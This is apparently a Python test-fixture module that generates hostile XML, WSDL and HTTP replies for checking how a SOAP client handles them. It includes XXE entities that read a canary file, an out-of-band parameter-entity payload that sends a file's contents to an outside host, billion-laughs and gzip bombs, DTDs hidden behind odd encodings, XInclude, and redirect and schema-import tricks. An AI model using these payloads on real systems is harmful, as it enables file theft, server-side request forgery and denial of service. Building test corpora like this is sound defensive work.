"""XML, WSDL and HTTP replies that want something: a file of ours, a call to elsewhere, all our memory, all our time."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

MB = 1024**2
ROWS = "<r><ligne>1</ligne><ligne>2</ligne></r>"
SOAP = "http://schemas.xmlsoap.org/soap/envelope/"


@dataclass(frozen=True)
class Document:
    """`doors`: how it comes in (`reply`, `file`, `wsdl`). `make` writes it when it is asked for; `more` are the
    documents beside it."""

    name: str
    make: Callable[[], bytes]
    doors: tuple[str, ...] = ("reply", "file", "wsdl")
    headers: dict[str, str] = field(default_factory=dict)
    status: int = 200
    more: dict[str, Callable[[], bytes]] = field(default_factory=dict)


CONTROL = (
    "entity-file",
    "entity-bare-path",
    "parameter-entity-file",
    "dtd-by-reference-file",
    "dtd-in-utf-7",
    "dtd-in-utf-16",
    "xinclude-file",
    "xinclude-as-text",
    "redirect-301",
    "redirect-302",
    "redirect-307",
    "redirect-with-user",
    "redirect-without-scheme",
    "xsd-import-http",
    "xsd-import-file",
    "xsd-include-http",
    "wsdl-import-http",
    "xsd-import-user-trick",
    "address-of-another-host",
    "second-document-leads-out",
)
"""Those that reach their goal with a reader that takes no precautions, and end."""


@dataclass(frozen=True)
class Places:
    """Where the documents point: a host nobody listed (with its port), a file of ours, the server they come from."""

    outside: str
    canary: str
    own: str

    @property
    def http(self) -> str:
        return f"http://{self.outside}"


def envelope(inside: str, before: str = "") -> str:
    return f'{before}<e:Envelope xmlns:e="{SOAP}"><e:Body>{inside}</e:Body></e:Envelope>'


def documents(places: Places) -> list[Document]:
    """All of them, each under a name of its own."""
    makers = (_entities, _document_types, _bombs, _encodings, _inclusions, _broken, _replies, _redirects, _wsdls)
    found = [document for maker in makers for document in maker(places)]
    if len({document.name for document in found}) != len(found):
        raise ValueError("two documents have the same name")
    return found


def _xml(name: str, text: str, *, encoding: str = "utf-8") -> Document:
    return Document(name, lambda: text.encode(encoding))


def _with_dtd(subset: str, inside: str = "<r><ligne>&x;</ligne></r>", external: str = "") -> str:
    return envelope(inside, f"<?xml version='1.0'?><!DOCTYPE e:Envelope {external}[{subset}]>")


def _entities(places: Places) -> Iterator[Document]:
    """Entities that name a file or an address."""
    targets = {
        "file": f"file://{places.canary}",
        "file-localhost": f"file://localhost{places.canary}",
        "bare-path": places.canary,
        "relative-path": "../" * 12 + places.canary.lstrip("/"),
        "http": f"{places.http}/entity",
        "https": f"https://{places.outside}/entity",
        "ftp": f"ftp://{places.outside}/entity",
        "gopher": f"gopher://{places.outside}/_x",
        "ldap": f"ldap://{places.outside}/x",
        "jar": f"jar:{places.http}/x.jar!/x",
        "unc": f"//{places.outside}/share/x",
    }
    for name, target in targets.items():
        yield _xml(f"entity-{name}", _with_dtd(f'<!ENTITY x SYSTEM "{target}">'))
    yield _xml("entity-public", _with_dtd(f'<!ENTITY x PUBLIC "-//W3C//TEXT copyright//EN" "{places.http}/public">'))
    attribute = f'<!ENTITY x SYSTEM "file://{places.canary}"><!ATTLIST r a CDATA "&x;">'
    yield _xml("entity-as-default-attribute", _with_dtd(attribute, ROWS))
    unparsed = f'<!NOTATION n SYSTEM "{places.http}/n"><!ENTITY x SYSTEM "{places.http}/x" NDATA n>'
    yield _xml(
        "entity-unparsed", _with_dtd(f"{unparsed}<!ATTLIST r a ENTITY #IMPLIED>", '<r a="x"><ligne>1</ligne></r>')
    )
    for name, target in {"file": f"file://{places.canary}", "http": f"{places.http}/parameter"}.items():
        yield _xml(f"parameter-entity-{name}", _with_dtd(f'<!ENTITY % p SYSTEM "{target}">%p;', ROWS))
    outwards = (
        f'<!ENTITY % file SYSTEM "file://{places.canary}"><!ENTITY % all "<!ENTITY &#37; send SYSTEM '
        f"'{places.http}/?%file;'>\">%all;%send;"
    )
    yield _xml("parameter-entity-carries-a-file-out", _with_dtd(outwards, ROWS))
    yield _xml("predefined-entities-redefined", _with_dtd('<!ENTITY lt "&#38;#60;"><!ENTITY amp "&#38;#38;">', ROWS))


def _document_types(places: Places) -> Iterator[Document]:
    """The door itself: a document type, however it is brought in."""
    for name, target in {"http": f"{places.http}/a.dtd", "file": f"file://{places.canary}"}.items():
        yield _xml(f"dtd-by-reference-{name}", envelope(ROWS, f'<!DOCTYPE e:Envelope SYSTEM "{target}">'))
    public = f'<!DOCTYPE e:Envelope PUBLIC "-//IETF//DTD HTML//EN" "{places.http}/html.dtd">'
    yield _xml("dtd-public", envelope(ROWS, public))
    yield _xml("dtd-empty", envelope(ROWS, "<!DOCTYPE e:Envelope>"))
    yield _xml("dtd-after-a-comment", envelope(ROWS, "<!-- x --><!DOCTYPE e:Envelope [<!ENTITY x 'y'>]>"))
    yield _xml("dtd-far-down", envelope(ROWS, " " * 200_000 + "<!DOCTYPE e:Envelope [<!ENTITY x 'y'>]>"))
    yield _xml("dtd-standalone", "<?xml version='1.0' standalone='yes'?>" + envelope(ROWS, "<!DOCTYPE e:Envelope []>"))


def _bombs(places: Places) -> Iterator[Document]:
    """Small on the wire, or endless: they want memory and time."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    yield _xml("billion-laughs", _with_dtd(f'<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l11;">'))
    params = "".join(f'<!ENTITY % p{n} "{f"&#37;p{n - 1};" * 10}">' for n in range(1, 9))
    yield _xml("parameter-laughs", _with_dtd(f"<!ENTITY % p0 '<!-- ha -->'>{params}%p8;", ROWS))
    big = f'<!ENTITY x "{"a" * 100_000}">'
    yield _xml("quadratic-blow-up", _with_dtd(big, f"<r><ligne>{'&x;' * 5_000}</ligne></r>"))
    yield _xml("entity-in-attributes", _with_dtd(big, f'<r a="{"&x;" * 5_000}"><ligne>1</ligne></r>'))
    yield _xml("entity-of-itself", _with_dtd('<!ENTITY x "&y;"><!ENTITY y "&x;">'))
    yield Document("deep-and-open", lambda: envelope("<a>" * 1_000_000).encode())
    yield Document("deep-and-closed", lambda: envelope("<a>" * 300_000 + "</a>" * 300_000).encode())
    yield Document("deep-in-a-row", lambda: envelope(f"<ligne>{'<a>' * 300_000}").encode())
    yield Document("attribute-of-20-mb", lambda: envelope(f'<ligne a="{"x" * 20 * MB}"/>').encode())
    many = " ".join(f'a{n}="{n}"' for n in range(200_000))
    yield Document("attributes-200000", lambda: envelope(f"<ligne {many}/>").encode())
    spaces = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(100_000))
    yield Document("namespaces-100000", lambda: envelope(f"<ligne {spaces}/>").encode())
    nested = "".join(f'<a xmlns:n{n}="urn:{n}">' for n in range(200))
    yield Document("namespaces-nested", lambda: envelope(nested + ROWS + "</a>" * 200).encode())
    yield Document("text-of-40-mb", lambda: envelope(f"<ligne>{'x' * 40 * MB}</ligne>").encode())
    yield Document("text-before-rows", lambda: envelope(f"<r>{'x' * 40 * MB}</r>").encode())
    yield Document("cdata-of-40-mb", lambda: envelope(f"<ligne><![CDATA[{'x' * 40 * MB}]]></ligne>").encode())
    yield Document("comment-of-40-mb", lambda: envelope(f"<!--{'x' * 40 * MB}-->{ROWS}").encode())
    yield Document("instruction-of-40-mb", lambda: envelope(f"<?x {'x' * 40 * MB}?>{ROWS}").encode())
    yield Document("blanks-after-the-end", lambda: (envelope(ROWS) + " " * 60 * MB).encode())
    yield Document("name-of-5-mb", lambda: envelope(f"<{'n' * 5 * MB}/>").encode())
    yield Document("children-without-end", lambda: envelope("<ligne>" + "<b/>" * 10_000_000).encode())
    yield Document("empty-elements-no-row", lambda: envelope("<r>" + "<b/>" * 10_000_000).encode())


def _encodings(places: Places) -> Iterator[Document]:
    """A document type that a filter on bytes would not see, and lies about the characters."""
    evil = f'<!DOCTYPE e:Envelope [<!ENTITY x SYSTEM "file://{places.canary}">]>'
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"):
        declared = {"utf-32": "UTF-32", "cp037": "IBM037"}.get(name, "UTF-16")
        text = envelope("<r><ligne>&x;</ligne></r>", f'<?xml version="1.0" encoding="{declared}"?>{evil}')
        yield _xml(f"dtd-in-{name}", text, encoding=name)
    hidden = envelope("<r><ligne>&x;</ligne></r>", evil)
    declared_7 = b'<?xml version="1.0" encoding="UTF-7"?>'
    yield Document("dtd-in-utf-7", lambda: declared_7 + hidden.replace("<", "+ADw-").replace("!", "+ACE-").encode())
    yield _xml("says-utf-16-is-utf-8", f'<?xml version="1.0" encoding="UTF-16"?>{hidden}')
    yield _xml("encoding-nobody-knows", f'<?xml version="1.0" encoding="x-evil"?>{hidden}')
    yield Document("bytes-that-are-no-utf-8", lambda: envelope("<ligne>é\x80</ligne>").encode("latin-1"))
    yield Document(
        "overlong-utf-8", lambda: envelope("<ligne>@</ligne>").encode().replace(b"@", b"\xc0\xbcevil\xc0\xbe")
    )
    yield Document("two-byte-order-marks", lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + hidden.encode())


def _inclusions(places: Places) -> Iterator[Document]:
    """Ways to pull something in without a document type."""
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for name, target in {"http": f"{places.http}/xi", "file": f"file://{places.canary}"}.items():
        yield _xml(f"xinclude-{name}", envelope(f'<r {xi}><ligne><xi:include href="{target}"/></ligne></r>'))
        yield _xml(f"stylesheet-{name}", envelope(ROWS, f'<?xml-stylesheet type="text/xsl" href="{target}"?>'))
        yield _xml(f"catalog-{name}", envelope(ROWS, f'<?oasis-xml-catalog catalog="{target}"?>'))
        xop = f'<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="{target}"/>'
        yield _xml(f"xop-include-{name}", envelope(f"<r><ligne>{xop}</ligne></r>"))
    as_text = f'<xi:include parse="text" href="file://{places.canary}"><xi:fallback>{ROWS}</xi:fallback></xi:include>'
    yield _xml("xinclude-as-text", envelope(f"<r {xi}><ligne>{as_text}</ligne></r>"))
    hints = (
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:x {places.http}/x.xsd" xsi:noNamespaceSchemaLocation="{places.http}/y.xsd"'
    )
    yield _xml("schema-location-hint", envelope(f"<r {hints}><ligne>1</ligne></r>"))
    yield _xml("xml-base", envelope(f'<r xml:base="{places.http}/"><ligne href="x">1</ligne></r>'))
    yield _xml("swa-href", envelope(f'<r><ligne href="{places.http}/part">1</ligne></r>'))
    yield _xml("php-instruction", envelope(f"<?php readfile('{places.canary}'); ?>{ROWS}"))


def _broken(places: Places) -> Iterator[Document]:
    """Not XML, or just not quite."""
    good = envelope(ROWS)
    yield _xml("cut", good[: len(good) // 2])
    yield _xml("two-roots", good + good)
    yield _xml("words-after-the-end", good + "trailing words")
    yield _xml("nul-bytes", good.replace("1", "\0"))
    yield _xml("character-that-does-not-exist", good.replace("1", "&#x0;&#xFFFFFFFF;"))
    yield _xml("prefix-nobody-declared", good.replace("<ligne>", "<zz:ligne>").replace("</ligne>", "</zz:ligne>"))
    yield _xml("attribute-twice", good.replace("<r>", '<r a="1" a="2">'))
    yield _xml("xml-1.1", f'<?xml version="1.1"?>{good}')
    yield _xml("html", "<!doctype html><html><body><script src='/x'></script><p>Sign in</html>")
    yield _xml("nothing-at-all", "")


def _reply(name: str, body: bytes, *, status: int = 200, **headers: str) -> Document:
    named = {key.replace("_", "-"): value for key, value in headers.items()}
    return Document(name, lambda: body, ("reply", "wsdl"), named, status)


def _replies(places: Places) -> Iterator[Document]:
    """What only HTTP can do to a reply."""
    good = envelope(ROWS).encode()
    xop = envelope('<ligne><x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="cid:1"/></ligne>')
    part = "--b\r\nContent-Type: {}\r\nContent-ID: <{}>\r\nContent-Location: {}\r\n\r\n{}\r\n"
    mtom = part.format("application/xop+xml", 0, "", xop) + part.format("x/y", 1, places.http, "x") + "--b--"
    related = 'multipart/related; type="application/xop+xml"; start="<0>"; boundary=b'
    yield _reply("mtom", mtom.encode(), Content_Type=related)
    yield _reply("attachments", mtom.encode(), Content_Type=related.replace("xop+xml", "soap+xml"))
    yield _reply("says-html", good, Content_Type="text/html")
    yield _reply("says-bytes", good, Content_Type="application/octet-stream")
    yield _reply("says-two-types", good, Content_Type="text/xml, text/html")
    yield _reply("says-utf-7", good, Content_Type="text/xml; charset=utf-7")
    yield _reply("link-header", good, Link=f"<{places.http}/x>; rel=preload", Content_Type="text/xml")
    bomb = gzip.compress(envelope(f"<ligne>{' ' * 100 * MB}").encode(), 6)
    yield _reply("gzip-bomb", bomb, Content_Encoding="gzip")
    blank = gzip.compress(envelope("<ligne/>" * 1000).encode() + b" " * 100 * MB, 6)
    yield _reply("gzip-bomb-after-the-end", blank, Content_Encoding="gzip")
    yield _reply("gzip-in-gzip-bomb", gzip.compress(bomb), Content_Encoding="gzip, gzip")
    yield _reply("deflate-bomb", zlib.compress(b" " * 100 * MB, 6), Content_Encoding="deflate")
    yield _reply("gzip-that-is-none", good, Content_Encoding="gzip")
    yield _reply("encodings-without-end", good, Content_Encoding=", ".join(["gzip"] * 50))
    yield _reply("length-that-lies", good, Content_Length="99999999999")
    fault = "<e:Fault><faultcode>e:Server</faultcode><faultstring>{}</faultstring><detail>{}</detail></e:Fault>"
    yield _reply("fault-with-huge-words", envelope(fault.format("x" * 30 * MB, "")).encode(), status=500)
    deep = envelope(fault.format("x", "<a>" * 100_000)).encode()
    yield _reply("fault-with-deep-detail", deep, status=500)
    evil = _with_dtd(f'<!ENTITY x SYSTEM "file://{places.canary}">', fault.format("&x;", ""))
    yield _reply("fault-with-entity", evil.encode(), status=500)


def _redirects(places: Places) -> Iterator[Document]:
    """Replies that send the caller elsewhere."""
    for status in (301, 302, 303, 307, 308):
        yield _reply(f"redirect-{status}", b"", status=status, Location=f"{places.http}/moved")
    for name, target in {
        "to-a-file": f"file://{places.canary}",
        "without-scheme": f"//{places.outside}/moved",
        "with-user": f"http://{places.own.removeprefix('http://')}@{places.outside}/moved",
        "to-many": f"{places.http}/a, {places.http}/b",
    }.items():
        yield _reply(f"redirect-{name}", b"", status=302, Location=target)
    bomb = gzip.compress(b" " * 200 * MB, 6)
    yield _reply("redirect-with-a-bomb", bomb, status=302, Location=f"{places.http}/x", Content_Encoding="gzip")
    yield _reply("redirect-to-nonsense", b"", status=302, Location="http://[127.0.0.1]:x/")
    refresh = f'<html><meta http-equiv="refresh" content="0;url={places.http}/"></html>'
    yield _reply("refresh-page", refresh.encode(), Content_Type="text/html", Refresh=f"0; url={places.http}/")
    yield _reply(
        "content-location", envelope(ROWS).encode(), Content_Location=f"{places.http}/x", Content_Type="text/xml"
    )
    yield _reply("proxy-please", b"", status=305, Location=places.http)


SCHEMA = (
    '<s:schema xmlns:s="http://www.w3.org/2001/XMLSchema" xmlns:t="urn:t" targetNamespace="urn:t">{}'
    '<s:element name="In"><s:complexType><s:sequence>{}</s:sequence></s:complexType></s:element></s:schema>'
)
WSDL = (
    '<w:definitions xmlns:w="http://schemas.xmlsoap.org/wsdl/" xmlns:so="http://schemas.xmlsoap.org/wsdl/soap/" '
    'xmlns:t="urn:t" targetNamespace="urn:t">{top}<w:types>{schema}</w:types><w:message name="M"><w:part name="p" '
    'element="t:In"/></w:message><w:portType name="P"><w:operation name="Op"><w:input message="t:M"/><w:output '
    'message="t:M"/></w:operation></w:portType><w:binding name="B" type="t:P"><so:binding transport='
    '"http://schemas.xmlsoap.org/soap/http"/><w:operation name="Op"><so:operation soapAction="urn:op"/><w:input>'
    '<so:body use="literal"/></w:input><w:output><so:body use="literal"/></w:output></w:operation></w:binding>'
    '<w:service name="S"><w:port name="P" binding="t:B"><so:address location="{address}"/></w:port></w:service>'
    "</w:definitions>"
)


def wsdl(address: str, *, top: str = "", inside: str = "", fields: str = "") -> str:
    """A WSDL with one operation `Op`."""
    return WSDL.format(top=top, schema=SCHEMA.format(inside, fields), address=address)


def _wsdl(name: str, text: str, **more: Callable[[], bytes]) -> Document:
    named = {key.replace("_", "."): make for key, make in more.items()}
    return Document(name, lambda: text.encode(), ("wsdl",), more=named)


def _wsdls(places: Places) -> Iterator[Document]:
    """Service descriptions that lead elsewhere, or nowhere, for ever."""
    own = f"{places.own}/calls"
    elsewhere = {
        "http": f"{places.http}/x.xsd",
        "file": f"file://{places.canary}",
        "bare-path": places.canary,
        "without-scheme": f"//{places.outside}/x.xsd",
        "ftp": f"ftp://{places.outside}/x.xsd",
        "user-trick": f"http://{places.own.removeprefix('http://')}@{places.outside}/x.xsd",
        "backslash": f"{places.own}\\@{places.outside}/x.xsd",
        "blanks": f"  \t{places.http}/x.xsd\n",
    }
    for name, target in elsewhere.items():
        yield _wsdl(f"xsd-import-{name}", wsdl(own, inside=f'<s:import namespace="urn:o" schemaLocation="{target}"/>'))
    for tag in ("include", "redefine", "override"):
        yield _wsdl(f"xsd-{tag}-http", wsdl(own, inside=f'<s:{tag} schemaLocation="{places.http}/x.xsd"/>'))
        yield _wsdl(f"xsd-{tag}-file", wsdl(own, inside=f'<s:{tag} schemaLocation="file://{places.canary}"/>'))
    for name in ("http", "file"):
        yield _wsdl(f"wsdl-import-{name}", wsdl(own, top=f'<w:import namespace="urn:o" location="{elsewhere[name]}"/>'))
    yield _wsdl("xsd-import-by-namespace", wsdl(own, inside=f'<s:import namespace="{places.http}/ns"/>'))
    based = f'<s:import xml:base="{places.http}/" namespace="urn:o" schemaLocation="x.xsd"/>'
    yield _wsdl("xsd-import-xml-base", wsdl(own, inside=based))
    policy = f'<p:PolicyReference xmlns:p="http://schemas.xmlsoap.org/ws/2004/09/policy" URI="{places.http}/p"/>'
    yield _wsdl("policy-reference", wsdl(own, top=policy))
    yield _wsdl("address-of-another-host", wsdl(f"{places.http}/calls"))
    yield _wsdl("address-is-a-file", wsdl(f"file://{places.canary}"))
    second = SCHEMA.format(f'<s:import namespace="urn:o" schemaLocation="{places.http}/x.xsd"/>', "")
    first = '<s:include schemaLocation="second.xsd"/>'
    yield _wsdl("second-document-leads-out", wsdl(own, inside=first), second_xsd=lambda: second.encode())
    evil = f'<!DOCTYPE s [<!ENTITY x SYSTEM "file://{places.canary}">]>' + SCHEMA.format("", "")
    yield _wsdl("second-document-has-a-dtd", wsdl(own, inside=first), second_xsd=lambda: evil.encode())
    cycle = SCHEMA.format('<s:include schemaLocation="first.xsd"/>', "")
    yield _wsdl(
        "includes-in-a-circle",
        wsdl(own, inside='<s:include schemaLocation="first.xsd"/>'),
        first_xsd=lambda: cycle.replace("first", "second").encode(),
        second_xsd=lambda: cycle.encode(),
    )
    yield _wsdl("imports-without-end", wsdl(own, inside='<s:include schemaLocation="endless-0.xsd"/>'))
    fan = "".join(f'<s:include schemaLocation="endless-{n}000.xsd"/>' for n in range(1, 400))
    yield _wsdl("imports-400", wsdl(own, inside=fan))
    groups = "".join(
        '<s:group name="g{0}"><s:sequence><s:group ref="t:g{1}"/><s:group ref="t:g{1}"/></s:sequence></s:group>'.format(
            n, n + 1
        )
        for n in range(30)
    )
    last = '<s:group name="g30"><s:sequence><s:element name="x" type="s:string"/></s:sequence></s:group>'
    yield _wsdl("groups-doubled-30-times", wsdl(own, inside=groups + last, fields='<s:group ref="t:g0"/>'))
    types = "".join(
        f'<s:complexType name="c{n}"><s:sequence><s:element name="a" type="t:c{n + 1}"/>'
        f'<s:element name="b" type="t:c{n + 1}"/></s:sequence></s:complexType>'
        for n in range(30)
    )
    end = '<s:complexType name="c30"><s:sequence/></s:complexType>'
    yield _wsdl("types-doubled-30-times", wsdl(own, inside=types + end, fields='<s:element name="x" type="t:c0"/>'))
    loop = '<s:complexType name="c"><s:sequence><s:element name="c" type="t:c"/></s:sequence></s:complexType>'
    yield _wsdl("type-in-itself", wsdl(own, inside=loop, fields='<s:element name="x" type="t:c"/>'))
    base = '<s:complexType name="{0}"><s:complexContent><s:extension base="t:{1}"/></s:complexContent></s:complexType>'
    yield _wsdl("types-based-on-each-other", wsdl(own, inside=base.format("a", "b") + base.format("b", "a")))
    pattern = '<s:restriction base="s:string"><s:pattern value="(a+)+$"/></s:restriction>'
    pattern = f'<s:simpleType name="p">{pattern}</s:simpleType>'
    yield _wsdl("pattern-that-backtracks", wsdl(own, inside=pattern, fields='<s:element name="x" type="t:p"/>'))
    often = '<s:element name="x" type="s:string" minOccurs="1000000000" maxOccurs="1000000000"/>'
    yield _wsdl("occurs-a-billion-times", wsdl(own, fields=often))
    wide = "".join(f'<s:element name="x{n}" type="s:string"/>' for n in range(10_000))
    yield _wsdl("fields-10000", wsdl(own, fields=wide))
    yield Document("wsdl-of-40-mb", lambda: wsdl(own, top=f"<!--{'x' * 40 * MB}-->").encode(), ("wsdl",))


def endless(number: int) -> bytes:
    """The schema that includes the next one."""
    return SCHEMA.format(f'<s:include schemaLocation="endless-{number + 1}.xsd"/>', "").encode()
